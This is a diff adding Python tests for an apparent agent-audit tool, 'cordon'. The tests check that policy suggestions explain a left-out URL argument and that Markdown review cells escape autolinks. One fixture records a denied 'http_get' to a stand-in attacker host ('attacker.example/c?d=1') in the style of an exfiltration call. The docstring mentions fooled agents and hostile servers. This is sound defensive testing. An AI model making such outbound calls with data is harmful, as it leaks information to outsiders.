@@ -1,0 +1,42 @@
+"""What the operator reads from ``cordon suggest`` and the Markdown review pack, where a fooled
+agent or a hostile server wrote the names and addresses: a proposal that narrows a check says
+so, and an address in the pack is text, not a link GitHub or GitLab makes live."""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+from cordon.audit.report._markdown import _text
+from cordon.audit.suggest import read_usage, render
+
+
+def _rec(tool: str, args: dict[str, Any], **extra: Any) -> dict[str, Any]:
+    return {"kind": "verdict", "session": "s1", "server": "srv", "tool": tool,
+            "arguments": args, "verdict": "allow", "rule": "default.allow", **extra}  # fmt: skip
+
+
+def test_sink_params_from_a_decoy_names_the_denied_url_argument() -> None:
+    denied = _rec(
+        "http_get",
+        {"path": "https://attacker.example/c?d=1", "account": "ops@corp.example"},
+        verdict="deny",
+        rule="taint.seen_in_output",
+        param="path",
+    )
+    text = render(read_usage([denied], []))
+    assert "sink_params: [account]" in text, text
+    (line,) = [x for x in text.splitlines() if "'path' is left out of sink_params" in x]
+    assert "gave a URL or host" in line and "1 denied or asked about" in line, line
+
+
+def test_sink_params_covering_every_address_adds_no_note() -> None:
+    text = render(read_usage([_rec("send_email", {"to": "a@b.example", "body": "hi"})], []))
+    assert "sink_params: [to]" in text and "left out of sink_params" not in text, text
+
+
+def test_autolink_starts_are_escaped_in_a_markdown_cell() -> None:
+    for raw in ("www.attacker.example", "https://attacker.example/x", "(WWW.a.example", "_www.b.c"):
+        cell = _text(raw)
+        assert not re.search(r"(?i)(?<!\\)www\.|(?<!\\):", cell), cell
+        assert cell.replace("\\", "") == raw  # reads the same once rendered
